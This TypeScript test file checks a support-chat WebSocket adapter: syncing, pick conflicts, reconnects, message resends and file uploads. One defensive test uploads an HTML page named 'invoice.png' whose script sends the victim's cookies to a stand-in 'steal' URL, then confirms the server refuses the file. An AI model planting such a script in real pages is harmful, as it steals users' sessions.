import { expect, waitUntil } from '@open-wc/testing';
import { executeServerCommand } from '@web/test-runner-commands';
import { createWebSocketAdapter, type WebSocketAdapterOptions } from '../../src/adapters/websocket.js';
import { ConvError } from '../../src/core/errors.js';
import { createFileTypePolicy } from '../../src/core/file-policy.js';
import type { Conversation, Message } from '../../src/core/model.js';
import {
  createConversationStore,
  type ConversationStore,
  type ConversationStoreOptions,
} from '../../src/core/store.js';
import { bytes, png } from '../fixtures/files.js';

const NAME = 'websocket-adapter';
const AGENT_TOKEN = 'demo-token-agent-1';
const COLLEAGUE_TOKEN = 'demo-token-agent-2';
let server = '';

const serverCommand = async <T = unknown>(action: string, options: Record<string, unknown> = {}) =>
  (await executeServerCommand('conv-server', { action, name: NAME, ...options })) as T;

before(async () => {
  ({ url: server } = await serverCommand<{ url: string }>('start'));
});
after(async () => {
  await serverCommand('stop');
});

const stores: ConversationStore[] = [];
afterEach(() => {
  for (const store of stores.splice(0)) store.disconnect();
});

function adapterFor(token: string, options: Partial<WebSocketAdapterOptions> = {}) {
  return createWebSocketAdapter({ url: `${server}/ws`, token, reconnectMinMs: 100, reconnectMaxMs: 1000, ...options });
}

async function storeOf(
  token = AGENT_TOKEN,
  adapterOptions: Partial<WebSocketAdapterOptions> = {},
  storeOptions: Partial<ConversationStoreOptions> = {},
): Promise<ConversationStore> {
  const store = createConversationStore({
    adapter: adapterFor(token, adapterOptions),
    fileTypePolicy: createFileTypePolicy(),
    retryBaseMs: 50,
    retryMaxMs: 400,
    requestTimeoutMs: 5000,
    ...storeOptions,
  });
  stores.push(store);
  await store.connect();
  return store;
}

/** The reference server's demo controls. */
async function control<T>(path: string, body: unknown = {}): Promise<T> {
  const response = await fetch(`${server}/demo/${path}`, {
    method: 'POST',
    headers: { Authorization: `Bearer ${AGENT_TOKEN}`, 'Content-Type': 'application/json' },
    body: JSON.stringify(body),
  });
  if (!response.ok) throw new Error(`${path}: ${response.status} ${await response.text()}`);
  return response.json() as Promise<T>;
}
const newCustomer = async () => (await control<Conversation>('conversations')).id;
/** A new customer, once the stores show them in their Picklist. */
async function newCustomerIn(...shownIn: ConversationStore[]): Promise<string> {
  const id = await newCustomer();
  await waitUntil(
    () => shownIn.every((store) => ids(store.list('picklist')).includes(id)),
    'the new customer shows in the Picklist',
  );
  return id;
}
const customerSays = (id: string, text: string) =>
  control<Message>(`conversations/${encodeURIComponent(id)}/messages`, { text });

/** What the server's database holds for a conversation, read from the file. */
const storedMessages = (conversationId: string) => serverCommand<Message[]>('messages', { conversationId });
const storedUploads = () => serverCommand<number>('uploads');

const ids = (list: readonly { id: string }[]) => list.map((conversation) => conversation.id);
const withText = (store: ConversationStore, id: string, text: string) =>
  store.messages(id).items.filter((message) => message.text === text);

describe('WebSocket adapter with the reference server', () => {
  it('two stores on two connections of one agent stay in sync through a pick, a message, a note and an end', async () => {
    const [desktop, phone] = [await storeOf(), await storeOf()];
    const id = await newCustomerIn(desktop, phone);

    await desktop.pick(id);
    await waitUntil(
      () => ids(phone.list('conversations')).includes(id) && !ids(phone.list('picklist')).includes(id),
      'the phone shows the pick',
    );

    await phone.loadMessages(id);
    const clientId = await desktop.sendMessage(id, { text: 'Your parcel is at the depot.' });
    await waitUntil(
      () => phone.messages(id).items.some((message) => message.clientId === clientId && message.status === 'sent'),
      'the phone shows the message',
    );

    const note = await phone.addNote(id, 'Call back after 5 pm.');
    await waitUntil(() => desktop.notes(id).items.some((item) => item.id === note.id), 'the desktop shows the note');

    await phone.endChat(id);
    await waitUntil(
      () => desktop.conversation(id)?.status === 'ended' && ids(desktop.list('history')).includes(id),
      'the desktop shows the end in History',
    );

    expect(phone.messages(id).items.filter((message) => message.clientId === clientId)).to.have.length(1);
    expect(desktop.messages(id).items.filter((message) => message.clientId === clientId)).to.have.length(1);
    expect(
      phone.messages(id).items.some((message) => message.text.includes('Call back')),
      'the note shown as a message',
    ).to.equal(false);
  });

  it('when two agents pick at the same moment, one gets the conversation and the other is told of the conflict and loses it from the Picklist', async () => {
    const [mine, colleague] = [await storeOf(), await storeOf(COLLEAGUE_TOKEN)];
    const id = await newCustomerIn(mine, colleague);
    const outcomes = await Promise.allSettled([mine.pick(id), colleague.pick(id)]);
    const [winner, loser] = outcomes[0].status === 'fulfilled' ? [mine, colleague] : [colleague, mine];
    const refusal = outcomes.find((outcome) => outcome.status === 'rejected') as PromiseRejectedResult;
    expect(
      outcomes.filter((outcome) => outcome.status === 'fulfilled'),
      'picks that succeeded',
    ).to.have.length(1);
    expect(refusal.reason).to.be.instanceOf(ConvError);
    expect((refusal.reason as ConvError).code).to.equal('conflict');
    expect(ids(winner.list('conversations'))).to.include(id);
    await waitUntil(
      () => !ids(loser.list('picklist')).includes(id) && !ids(loser.list('conversations')).includes(id),
      "the other agent's lists no longer show it",
    );
  });

  it('while the connection is down the store says so; back online, what the customer wrote meanwhile shows once', async () => {
    const store = await storeOf();
    const id = await newCustomerIn(store);
    await store.pick(id);
    await store.loadMessages(id);
    const states: string[] = [];
    store.on('connection', () => states.push(store.connection));
    await control('connections/drop');
    await customerSays(id, 'Hello? Are you still there?');
    await waitUntil(
      () => store.connection === 'online' && withText(store, id, 'Hello? Are you still there?').length > 0,
      'the store is back with the message',
    );
    expect(states).to.include('reconnecting');
    expect(withText(store, id, 'Hello? Are you still there?')).to.have.length(1);
  });

  it("when the server's log no longer reaches back, a new snapshot brings the store up to date", async () => {
    ({ url: server } = await serverCommand<{ url: string }>('restart', { eventLogSize: 3 }));
    try {
      const store = await storeOf(AGENT_TOKEN, { reconnectMinMs: 1500, reconnectMaxMs: 1500 });
      const id = await newCustomerIn(store);
      await store.pick(id);
      await store.loadMessages(id);
      await control('connections/drop');
      for (let line = 1; line <= 4; line++) await customerSays(id, `While you were away ${line}`);
      const waiting = await newCustomer();
      await waitUntil(
        () => store.connection === 'online' && withText(store, id, 'While you were away 4').length === 1,
        'the store catches up',
        { timeout: 8000 },
      );
      for (let line = 1; line <= 4; line++)
        expect(withText(store, id, `While you were away ${line}`), `line ${line}`).to.have.length(1);
      expect(ids(store.list('picklist'))).to.include(waiting);
      expect(store.conversation(id)?.lastMessage?.text).to.equal('While you were away 4');
    } finally {
      ({ url: server } = await serverCommand<{ url: string }>('restart', { eventLogSize: 0 }));
    }
  });

  it('killing and restarting the server mid-send loses nothing: the outbox resends and each message is stored exactly once', async function () {
    this.timeout(60_000);
    // Answers take 300 ms, so the server is killed with messages stored but not yet confirmed.
    ({ url: server } = await serverCommand<{ url: string }>('restart', { answerDelayMs: 300 }));
    try {
      const [desktop, phone] = [await storeOf(), await storeOf()];
      const id = await newCustomerIn(desktop, phone);
      await desktop.pick(id);
      await phone.loadMessages(id);
      const texts = Array.from({ length: 12 }, (_, index) => `Update ${index + 1} on your order`);
      const clientIds: string[] = [];
      for (const text of texts) clientIds.push(await desktop.sendMessage(id, { text }));

      const agentRows = async () => (await storedMessages(id)).filter((message) => message.author === 'agent');
      await waitUntil(async () => (await agentRows()).length >= 4, 'a few messages reach the database', {
        timeout: 10_000,
        interval: 20,
      });
      await serverCommand('stop');
      const storedAtKill = (await agentRows()).length;
      const confirmedAtKill = desktop
        .messages(id)
        .items.filter((message) => message.author === 'agent' && message.status === 'sent').length;

      ({ url: server } = await serverCommand<{ url: string }>('restart', { answerDelayMs: 0 }));
      await waitUntil(
        () =>
          clientIds.every((clientId) =>
            desktop.messages(id).items.some((message) => message.clientId === clientId && message.status === 'sent'),
          ),
        'every message is confirmed',
        { timeout: 30_000 },
      );
      await waitUntil(
        () => texts.every((text) => withText(phone, id, text).length === 1),
        'the phone shows every message',
        { timeout: 10_000 },
      );

      const rows = await agentRows();
      expect(rows.map((message) => message.clientId).sort()).to.deep.equal([...clientIds].sort());
      expect(rows.map((message) => message.text)).to.deep.equal(texts);
      for (const text of texts) {
        expect(withText(desktop, id, text), `desktop: ${text}`).to.have.length(1);
        expect(withText(phone, id, text), `phone: ${text}`).to.have.length(1);
      }
      expect(storedAtKill, 'stored when the server was killed').to.be.greaterThan(confirmedAtKill);
      console.log(
        `restart mid-send: ${texts.length} messages; at the kill ${storedAtKill} were stored and ${confirmedAtKill} confirmed; after the restart ${rows.length} rows, each clientId once`,
      );
    } finally {
      ({ url: server } = await serverCommand<{ url: string }>('restart', { answerDelayMs: 0 }));
    }
  });

  it('the server refuses a web page named .png that a modified client let through, and keeps nothing', async () => {
    // No file-type policy in this store: the client's check is skipped, as in a tampered client.
    const store = await storeOf(AGENT_TOKEN, {}, { fileTypePolicy: undefined });
    const id = await newCustomerIn(store);
    await store.pick(id);
    const uploadsBefore = await storedUploads();
    const page = new Blob(
      [
        '<!doctype html><html><body><script>document.location="https://example.com/steal?"+document.cookie</script></body></html>',
      ],
      { type: 'image/png' },
    );
    const clientId = await store.sendMessage(id, {
      files: [{ blob: page, name: 'invoice.png', mimeType: 'image/png' }],
    });
    await waitUntil(
      () => store.messages(id).items.find((message) => message.clientId === clientId)?.status === 'failed',
      'the message fails',
    );
    expect(store.messages(id).items.find((message) => message.clientId === clientId)?.errorCode).to.equal('invalid');
    expect(await storedUploads()).to.equal(uploadsBefore);
    expect((await storedMessages(id)).some((message) => message.clientId === clientId)).to.equal(false);
  });

  it('a photo is uploaded, sent, and served back with the type found in its bytes', async () => {
    const store = await storeOf();
    const id = await newCustomerIn(store);
    await store.pick(id);
    const photo = new Blob([png(40, 30)], { type: 'image/png' });
    const progress: number[] = [];
    let clientId = '';
    store.on(`messages:${id}`, () => {
      const fraction = clientId ? store.uploadProgress(clientId) : undefined;
      if (fraction !== undefined) progress.push(fraction);
    });
    clientId = await store.sendMessage(id, { text: 'Here is the label', files: [{ blob: photo, name: 'label.png' }] });
    await waitUntil(
      () => store.messages(id).items.find((message) => message.clientId === clientId)?.status === 'sent',
      'the photo is sent',
    );
    const [attachment] = store.messages(id).items.find((message) => message.clientId === clientId)!.attachments;
    expect(attachment).to.include({
      name: 'label.png',
      mimeType: 'image/png',
      size: photo.size,
      width: 40,
      height: 30,
    });
    expect(progress.at(-1), 'upload progress at the end').to.equal(1);
    expect(new URL(attachment!.url).origin).to.equal(new URL(server).origin);
    const served = await fetch(attachment!.url);
    expect(served.headers.get('content-type')).to.equal('image/png');
    expect(new Uint8Array(await served.arrayBuffer())).to.deep.equal(new Uint8Array(await photo.arrayBuffer()));
  });

  it('an upload cancelled before it finishes leaves nothing on the server', async () => {
    const adapter = adapterFor(AGENT_TOKEN);
    await adapter.connect(() => {});
    try {
      const id = await newCustomer();
      await adapter.pick(id);
      const uploadsBefore = await storedUploads();
      // A valid PNG header followed by 9 MB: still on its way when the agent cancels.
      const large = new Blob([png(2, 2).slice(0, 33), new Uint8Array(9 * 1024 * 1024), bytes('IEND')], {
        type: 'image/png',
      });
      const controller = new AbortController();
      const uploading = adapter.uploadAttachment(large, 'large.png', {
        conversationId: id,
        clientId: 'cancelled-upload',
        signal: controller.signal,
      });
      setTimeout(() => controller.abort(), 1);
      const outcome = await uploading.then(
        () => 'uploaded',
        (error: Error) => error.name,
      );
      expect(outcome).to.equal('AbortError');
      await new Promise((resolve) => setTimeout(resolve, 300));
      expect(await storedUploads()).to.equal(uploadsBefore);
    } finally {
      adapter.disconnect();
    }
  });

  it('a token the server does not know is refused as forbidden', async () => {
    const store = createConversationStore({ adapter: adapterFor('not-a-real-token') });
    const refusal = await store.connect().then(
      () => undefined,
      (error: unknown) => error,
    );
    expect(refusal).to.be.instanceOf(ConvError);
    expect((refusal as ConvError).code).to.equal('forbidden');
    expect(store.connection).to.equal('offline');
  });
});

// ── the protocol's rules, against a scripted server ──

type Frame = Record<string, unknown> & { type: string; id?: string; method?: string; params?: Record<string, unknown> };

/** Stands in for the browser's WebSocket so a test can play the server frame by frame. */
class ScriptedSocket {
  static readonly CONNECTING = 0;
  static readonly OPEN = 1;
  static readonly CLOSED = 3;
  static opened: ScriptedSocket[] = [];
  static answer: (socket: ScriptedSocket, frame: Frame) => void = () => {};

  readyState = ScriptedSocket.CONNECTING;
  onopen: (() => void) | null = null;
  onmessage: ((message: { data: string }) => void) | null = null;
  onclose: ((event: { code: number; reason: string }) => void) | null = null;
  onerror: (() => void) | null = null;
  readonly received: Frame[] = [];

  constructor(readonly url: string) {
    ScriptedSocket.opened.push(this);
    setTimeout(() => {
      this.readyState = ScriptedSocket.OPEN;
      this.onopen?.();
    });
  }

  send(data: string) {
    const frame = JSON.parse(data) as Frame;
    this.received.push(frame);
    ScriptedSocket.answer(this, frame);
  }

  close(code = 1000) {
    this.lose(code);
  }

  // the server's side
  reply(frame: Frame, result: unknown) {
    this.push({ type: 'response', id: frame.id!, result });
  }
  push(frame: Frame) {
    if (this.readyState === ScriptedSocket.OPEN) this.onmessage?.({ data: JSON.stringify(frame) });
  }
  lose(code = 1006) {
    if (this.readyState === ScriptedSocket.CLOSED) return;
    this.readyState = ScriptedSocket.CLOSED;
    setTimeout(() => this.onclose?.({ code, reason: '' }));
  }
}

describe('WebSocket adapter rules, against a scripted server', () => {
  const realWebSocket = globalThis.WebSocket;
  const agent = { id: 'agent-1', name: 'Alex Morgan' };
  const conversation = (id: string, updatedAt: number): Conversation => ({
    id,
    customer: { id: `cust-${id}` },
    channel: 'chat',
    status: 'active',
    assigneeId: agent.id,
    createdAt: 1,
    updatedAt,
    unreadCount: 0,
  });
  const message = (id: string, text: string): Message => ({
    id,
    clientId: id,
    conversationId: 'c1',
    author: 'customer',
    text,
    attachments: [],
    sentAt: 10,
    status: 'delivered',
  });
  const event = (seq: number, text: string): Frame => ({
    type: 'event',
    seq,
    event: { type: 'message', message: message(`m${seq}`, text) },
  });

  let adapter: ReturnType<typeof createWebSocketAdapter>;
  let heard: Array<{ type: string; [key: string]: unknown }>;
  const texts = () => heard.flatMap((entry) => (entry.type === 'message' ? [(entry.message as Message).text] : []));
  const states = () => heard.flatMap((entry) => (entry.type === 'connection' ? [entry.state as string] : []));

  /** A server that answers hello and snapshot, and lets each test answer the rest. */
  function serve(
    rest: (socket: ScriptedSocket, frame: Frame) => void = () => {},
    { heartbeatMs = 10_000, snapshot = [conversation('c1', 5)] } = {},
  ) {
    ScriptedSocket.answer = (socket, frame) => {
      if (frame.method === 'hello') socket.reply(frame, { agent, heartbeatMs });
      else if (frame.method === 'snapshot')
        socket.reply(frame, { agent, conversations: snapshot, logId: 'log-1', seq: 0 });
      else rest(socket, frame);
    };
  }

  beforeEach(async () => {
    ScriptedSocket.opened = [];
    (globalThis as { WebSocket: unknown }).WebSocket = ScriptedSocket;
    heard = [];
  });
  afterEach(() => {
    adapter?.disconnect();
    globalThis.WebSocket = realWebSocket;
  });

  const connect = async (options: Partial<WebSocketAdapterOptions> = {}) => {
    adapter = createWebSocketAdapter({
      url: 'ws://chat.example.test/ws',
      token: AGENT_TOKEN,
      reconnectMinMs: 20,
      reconnectMaxMs: 40,
      gapWaitMs: 50,
      ...options,
    });
    await adapter.connect((entry) => heard.push(entry as unknown as (typeof heard)[number]));
    return ScriptedSocket.opened.at(-1)!;
  };

  it('an event repeated, or older than the last one applied, reaches the store once', async () => {
    serve();
    const socket = await connect();
    socket.push(event(1, 'first'));
    socket.push(event(1, 'first'));
    socket.push(event(2, 'second'));
    socket.push(event(1, 'first'));
    expect(texts()).to.deep.equal(['first', 'second']);
  });

  it('an event ahead of a missing one waits; the gap is asked for and everything arrives once, in order', async () => {
    serve((socket, frame) => {
      if (frame.method === 'resume')
        socket.reply(frame, {
          events: [event(1, 'one'), event(2, 'two'), event(3, 'three')].map(({ seq, event: pushed }) => ({
            seq,
            event: pushed,
          })),
        });
    });
    const socket = await connect();
    socket.push(event(2, 'two'));
    socket.push(event(3, 'three'));
    expect(texts(), 'nothing before the missing event').to.deep.equal([]);
    await waitUntil(() => texts().length === 3, 'the gap is filled');
    expect(socket.received.find((frame) => frame.method === 'resume')?.params).to.deep.equal({
      logId: 'log-1',
      seq: 0,
    });
    expect(texts()).to.deep.equal(['one', 'two', 'three']);
  });

  it('after a drop it reconnects, resumes from the last event applied, and says reconnecting then online', async () => {
    serve((socket, frame) => {
      if (frame.method === 'resume') socket.reply(frame, { events: [{ seq: 2, event: event(2, 'while away').event }] });
    });
    const first = await connect();
    first.push(event(1, 'before'));
    first.lose();
    await waitUntil(() => states().includes('online'), 'back online');
    const second = ScriptedSocket.opened.at(-1)!;
    expect(second).not.to.equal(first);
    expect(second.received.map((frame) => frame.method)).to.deep.equal(['hello', 'resume']);
    expect(second.received[1]!.params).to.deep.equal({ logId: 'log-1', seq: 1 });
    expect(states()).to.deep.equal(['reconnecting', 'online']);
    expect(texts()).to.deep.equal(['before', 'while away']);
  });

  it('requests made while the connection is down fail at once as network', async () => {
    serve();
    const socket = await connect({ reconnectMinMs: 5000, reconnectMaxMs: 5000 });
    socket.lose();
    await waitUntil(() => states().includes('reconnecting'), 'the drop is noticed');
    const refusal = await adapter.pick('c1').then(
      () => undefined,
      (error: unknown) => error,
    );
    expect((refusal as ConvError).code).to.equal('network');
  });

  it('a connection silent for two heartbeats is given up and replaced', async () => {
    serve(() => {}, { heartbeatMs: 40 }); // answers no ping: a connection that died without closing
    const first = await connect();
    await waitUntil(() => ScriptedSocket.opened.length > 1, 'a new connection', { timeout: 2000 });
    expect(first.readyState).to.equal(ScriptedSocket.CLOSED);
    expect(first.received.some((frame) => frame.type === 'ping')).to.equal(true);
    expect(states()[0]).to.equal('reconnecting');
  });

  it('a token refused on reconnecting stops the retries and reports offline', async () => {
    serve();
    const first = await connect();
    ScriptedSocket.answer = (socket, frame) => {
      socket.push({
        type: 'error',
        id: frame.id!,
        error: { code: 'forbidden', message: 'This token is not valid', details: { reason: 'refused' } },
      });
      socket.lose(4401);
    };
    first.lose();
    await waitUntil(() => states().includes('offline'), 'offline');
    const connections = ScriptedSocket.opened.length;
    await new Promise((resolve) => setTimeout(resolve, 200));
    expect(ScriptedSocket.opened.length, 'no more attempts').to.equal(connections);
  });

  it('when the log no longer reaches back, a new snapshot tells the store what changed and what is gone', async () => {
    let snapshots = 0;
    ScriptedSocket.answer = (socket, frame) => {
      if (frame.method === 'hello') return socket.reply(frame, { agent, heartbeatMs: 10_000 });
      if (frame.method === 'snapshot') {
        snapshots++;
        // The first snapshot has c1 and c2; by the second, c1 moved on and c2 went to a colleague.
        const conversations =
          snapshots === 1 ? [conversation('c1', 5), conversation('c2', 5)] : [conversation('c1', 9)];
        return socket.reply(frame, { agent, conversations, logId: 'log-1', seq: snapshots === 1 ? 0 : 40 });
      }
      if (frame.method === 'resume') return socket.reply(frame, { snapshotRequired: true });
      if (frame.method === 'listMessages')
        return socket.reply(frame, { items: [message('m-late', 'Written while you were away')] });
    };
    const first = await connect();
    await adapter.listMessages('c1');
    first.lose();
    await waitUntil(() => states().includes('online'), 'back online');
    const types = heard.filter((entry) => entry.type !== 'connection').map((entry) => entry.type);
    expect(types).to.deep.equal(['message', 'conversation', 'conversation-removed']);
    expect(texts()).to.deep.equal(['Written while you were away']);
    expect(heard.find((entry) => entry.type === 'conversation-removed')).to.include({ conversationId: 'c2' });
  });
});
